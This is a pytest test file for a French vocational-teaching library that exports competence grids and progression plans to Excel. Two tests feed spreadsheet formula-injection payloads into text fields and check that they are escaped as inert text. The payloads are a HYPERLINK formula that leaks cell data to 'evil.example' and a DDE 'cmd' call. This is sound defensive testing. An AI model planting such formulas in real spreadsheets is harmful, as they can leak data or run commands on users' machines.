import openpyxl
import pytest

from scenario_lib.errors import SpiraleError
from scenario_lib.render import export
from tests.sheetcheck import ATTACKS, live_xlsx_cells, xlsx_texts


def test_grid_workbook(scenario, ref, tmp_path):
    path = export(scenario, "xlsx", tmp_path, eleves=["Léa Martin", "Noé Dubois"])
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Grille", "Classe", "Échelle"]
    grid = book["Grille"]
    rows = [[c.value for c in row] for row in grid.iter_rows()]
    assert rows[0][:2] == [
        "Scénario",
        "Prospection au salon de l’habitat «\u00a0Maisons & Jardins\u00a0» — œuvre collective 🎯",
    ]  # own text typeset as in the PDF
    header = next(r for r in rows if r[:3] == ["Bloc", "Code", "Compétence"])
    assert header[3:8] == ["NE", "N", "D", "A", "E"]
    by_code = {r[1]: r[2] for r in rows[rows.index(header) + 1 :]}
    assert by_code == {code: ref.competence(code).title for code in scenario.competences}
    assert any(dv.formula1 == '"X"' for dv in grid.data_validations.dataValidation)
    classe = [[c.value for c in row] for row in book["Classe"].iter_rows()]
    assert [r[0] for r in classe[-2:]] == ["Léa Martin", "Noé Dubois"]
    scale = [[c.value for c in row] for row in book["Échelle"].iter_rows(min_row=2)]
    assert scale == [[lv.code, lv.label, lv.descriptor or None] for lv in ref.scale("positionnement")]


def test_document_type_without_sheets_is_refused_in_french(scenario, tmp_path):
    other = scenario.model_copy(update={"doc_type": "inconnu"})
    with pytest.raises(SpiraleError, match="type de document inconnu"):
        export(other, "xlsx", tmp_path)
    assert list(tmp_path.iterdir()) == []  # a registered type without sheets: tests/test_doctypes.py


def test_text_typed_like_a_formula_stays_text(tmp_path, scenario):
    from scenario_lib.render.export import export

    doc = scenario.model_copy(update={"title": "=1+1 situation", "authors": ATTACKS})
    path = export(doc, "xlsx", tmp_path / "grille.xlsx", eleves=["Dupont", "=SOMME(A1:A9)", *ATTACKS])
    assert live_xlsx_cells(path) == []
    texts = xlsx_texts(path)
    assert {"'=1+1 situation", "'=SOMME(A1:A9)", "'+1+1", "'@SUM(1)", "'-2+3", "Dupont"} <= texts
    assert '\'=HYPERLINK("http://evil.example/?x="&B2,"Cliquez ici")' in texts


def test_progression_sheets_keep_teacher_text_inert(tmp_path):
    from scenario_lib.planning.progression import new_progression
    from scenario_lib.render.export import export
    from scenario_lib.scenario.model import parse_scenario

    prog = new_progression("bacpro-mcv-b", "+1+1 classe", "guide-grand-est", title='=HYPERLINK("http://x")')
    situation = parse_scenario(
        dict(
            title="@SUM(1) relance",
            level="seconde",
            competences=["1.1"],
            context={
                "name": "=cmd|' /C calc'!A0",
                "sector": "optique",
                "market": "B to C",
                "channel": "face-à-face",
                "product": "lunettes",
                "target": "particuliers",
            },
            mission="Accueillir les clients.",
            tasks=[{"title": "Préparer", "duration_hours": 3}],
        )
    )
    prog = prog.placed(situation, "seconde", prog.year("seconde").numbers("cours")[0])
    path = export(prog, "xlsx", tmp_path / "progression.xlsx")
    assert live_xlsx_cells(path) == []
    texts = xlsx_texts(path)
    assert {"'+1+1 classe", '\'=HYPERLINK("http://x")', "'@SUM(1) relance"} <= texts
    week_numbers = [c.value for c in __import__("openpyxl").load_workbook(path).worksheets[0]["A"]]
    assert 1 in week_numbers  # real numbers stay numbers
